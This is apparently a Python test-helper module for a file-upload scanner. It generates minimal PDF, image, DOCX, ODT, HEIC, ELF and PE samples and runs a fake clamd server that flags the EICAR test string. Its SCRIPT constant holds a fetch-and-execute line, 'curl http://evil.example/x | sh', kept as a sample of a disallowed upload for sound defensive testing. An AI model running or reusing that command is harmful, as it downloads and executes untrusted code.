"""Real minimal files of each type, made in the test run, and a stand-in for clamd.

A module of its own, not conftest.py: test folders each have a conftest, and
``from conftest import …`` finds whichever was imported last when several folders
are collected in one run.
"""

import io
import socket
import struct
import threading
import zipfile

from fpdf import FPDF
from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def make_pdf():
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("Helvetica", size=12)
    pdf.cell(0, 10, "Faktura")
    return bytes(pdf.output())


def make_image(fmt):
    out = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 30, 30)).save(out, format=fmt)
    return out.getvalue()


def make_docx(
    main="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
            "</Types>",
        )
        z.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            "</Relationships>",
        )
        z.writestr(
            "word/document.xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>Hej</w:t></w:r></w:p></w:body></w:document>",
        )
    return out.getvalue()


def make_odt(mimetype="application/vnd.oasis.opendocument.text"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        # The mimetype entry comes first and is stored uncompressed, as ODF demands.
        z.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        z.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>",
            compress_type=zipfile.ZIP_DEFLATED,
        )
        z.writestr(
            "content.xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
            compress_type=zipfile.ZIP_DEFLATED,
        )
    return out.getvalue()


def make_heic(major=b"heic", compatible=(b"mif1", b"heic")):
    brands = major + b"\0\0\0\0" + b"".join(compatible)
    ftyp = struct.pack(">I", 8 + len(brands)) + b"ftyp" + brands
    meta = struct.pack(">I", 12) + b"meta" + b"\0\0\0\0"
    return ftyp + meta + b"\0" * 64


ELF = b"\x7fELF\x02\x01\x01\0" + b"\0" * 8 + b"\x02\0\x3e\0" + b"\0" * 200
PE = (
    b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0"
    + b"\0" * 44
    + b"\x80\0\0\0"
    + b"\0" * 64
    + b"PE\0\0"
    + b"\0" * 100
)
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


class FakeClamd:
    """A clamd speaking INSTREAM (and PING) on a real socket, finding EICAR.

    Not the real clamd. Debian's clamav-daemon can be installed, but the test machines
    do not have it, and its signature databases come from the internet (freshclam).
    This server speaks clamd's documented protocol over a real socket
    (``zINSTREAM\\0``, length-prefixed chunks, ``stream: OK\\0`` or
    ``stream: <name> FOUND\\0``); ``test_real_clamd.py`` checks the client against
    the real daemon where one is installed.

    ``path`` is a UNIX socket path; without it the server listens on TCP at
    127.0.0.1 and a free port (``.address`` is "127.0.0.1:<port>" then).
    """

    def __init__(self, path=None, reply=None, silent=False):
        self.reply = reply
        self.silent = silent
        self.received = []
        if path is None:
            self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            self.sock.bind(("127.0.0.1", 0))
            self.path = None
            self.port = self.sock.getsockname()[1]
            self.address = f"127.0.0.1:{self.port}"
        else:
            self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            self.sock.bind(str(path))
            self.path = self.address = str(path)
        self.sock.listen()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                self._handle(conn)

    def _handle(self, conn):
        command = _read_until(conn, b"\0")
        if command == b"zPING":
            conn.sendall(b"PONG\0")
            return
        assert command == b"zINSTREAM"
        data = b""
        while True:
            (length,) = struct.unpack(">I", _read_exactly(conn, 4))
            if length == 0:
                break
            data += _read_exactly(conn, length)
        self.received.append(data)
        if self.silent:
            threading.Event().wait(2)
            return
        if self.reply is not None:
            conn.sendall(self.reply)
        elif EICAR in data:
            conn.sendall(b"stream: Win.Test.EICAR_HDB-1 FOUND\0")
        else:
            conn.sendall(b"stream: OK\0")

    def close(self):
        self.sock.close()


def _read_exactly(conn, n):
    data = b""
    while len(data) < n:
        part = conn.recv(n - len(data))
        if not part:
            raise ConnectionError("client went away")
        data += part
    return data


def _read_until(conn, end):
    data = b""
    while not data.endswith(end):
        data += _read_exactly(conn, 1)
    return data[: -len(end)]
